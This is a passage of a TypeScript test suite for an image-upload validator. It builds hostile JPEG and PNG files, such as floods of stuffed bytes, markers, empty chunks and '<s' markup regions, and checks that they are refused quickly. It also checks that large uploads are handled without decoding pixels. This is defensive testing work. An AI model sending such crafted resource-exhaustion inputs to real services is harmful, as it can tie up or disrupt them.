      expect(check(withJpegSegment(src.jpeg, 0xfe, text(comment))), comment).toMatchObject({ width: 64 });
    }
  });
});

/**
 * Hostile structures meet a bound, named in the refusal's cause (the log's
 * side of it), instead of a walk per byte. How long each check takes is
 * measured by `npm run bench -- badinput` (hostileStructuresMs).
 */
describe('hostile structures are refused on a budget, not walked for seconds', () => {
  const repeat = (unit: readonly number[], bytes: number) => Buffer.alloc(bytes, Buffer.from(unit));
  const scanStart = () => {
    const sos = jpegSegments(src.jpeg).find((s) => s.marker === 0xda)!;
    return src.jpeg.subarray(0, sos.at + 2 + src.jpeg.readUInt16BE(sos.at + 2));
  };
  it.each([
    ['a scan of stuffed FF00 pairs', () => Buffer.concat([scanStart(), repeat([0xff, 0x00], 3 << 20), Buffer.from([0xff, 0xd9])]), 'PETCUT_E_CORRUPT_IMAGE', /implausibly many markers or stuffed bytes/],
    ['a scan of restart markers', () => Buffer.concat([scanStart(), repeat([0xff, 0xd0], 3 << 20), Buffer.from([0xff, 0xd9])]), 'PETCUT_E_CORRUPT_IMAGE', /implausibly many markers or stuffed bytes/],
    ['thousands of empty JPEG comments', () => Buffer.concat([src.jpeg.subarray(0, 2), repeat([0xff, 0xfe, 0, 2], 40_000), src.jpeg.subarray(2)]), 'PETCUT_E_CORRUPT_IMAGE', /implausibly many metadata segments/],
    ['a million empty PNG chunks', () => Buffer.concat([src.png.subarray(0, 33), repeat([...pngChunk('abCd', Buffer.alloc(0))], 12 << 20), src.png.subarray(33)]), 'PETCUT_E_CORRUPT_IMAGE', /implausibly many chunks/],
    // Not scanned at all: the trailer walk stops at the first byte that is not a structure phones append.
    ['a trailing region made of "<s"', () => Buffer.concat([src.jpeg, repeat([0x3c, 0x73], 2 << 20)]), 'PETCUT_E_SUSPICIOUS_CONTENT', /after the image: unknown bytes at/],
    ['a private PNG chunk made of "<s"', () => withPngChunk(src.png, 'prVt', repeat([0x3c, 0x73], 12 << 20)), 'PETCUT_E_SUSPICIOUS_CONTENT', /too much markup to scan/],
    ['a private PNG chunk of UTF-16 "<a"', () => withPngChunk(src.png, 'prVt', repeat([0x3c, 0, 0x61, 0], 24 << 20)), 'PETCUT_E_SUSPICIOUS_CONTENT', /too much markup to scan/],
  ] as const)('%s', (_name, make, code, bound) => {
    const refused = refusal(make()) as { code: string; cause?: unknown };
    expect(refused.code).toBe(code);
    expect(String((refused.cause as Error | undefined)?.message ?? refused.cause)).toMatch(bound);
  });

  it('a COM segment of "<%" and text without a closer is accepted (the scan does not count it as code)', () => {
    expect(check(withJpegSegment(src.jpeg, 0xfe, Buffer.alloc(65_000, '<% abc ')))).toMatchObject({ width: 64 });
  });

  it('thousands of compressed PNG texts: only the first 16 are inflated, and broken ones are no refusal', () => {
    const texts = (chunk: Buffer) => Buffer.concat([src.png.subarray(0, 33), repeat([...chunk], chunk.length * 30_000), src.png.subarray(33)]);
    const broken = texts(pngChunk('zTXt', text('a\0\0')));
    expect(check(broken)).toMatchObject({ width: 64 });
    const valid = texts(pngChunk('zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(text('a comment'))])));
    expect(check(valid)).toMatchObject({ width: 64 });
    const inflated = pngLayout(valid, () => undefined).inflated ?? [];
    expect(inflated).toHaveLength(16);
    expect(inflated.every((block) => block.toString('latin1') === 'a comment')).toBe(true);
  });
});

describe('cost', () => {
  it('a 30 MB upload (a photo plus a long video) is checked without touching its pixels', () => {
    const big = Buffer.concat([src.jpeg, isoBmff('mp42', ['isom'], 30 * 1024 * 1024 - src.jpeg.length - 100)]);
    expect(check(big)).toMatchObject({ trailingBytes: big.length - src.jpeg.length });
    // What the active-content scan reads: the photo's metadata segments; the video is walked box header to box header.
    const layout = jpegLayout(big, () => undefined);
    const scanned = [...layout.metadata];
    expect(trailerProblem(big, layout.end, scanned)).toBeUndefined();
    expect(scanned.reduce((sum, [start, end]) => sum + end - start, 0)).toBeLessThan(src.jpeg.length);
    // How long the check takes is measured by `npm run bench -- badinput` (hostileStructuresMs).
  });
});
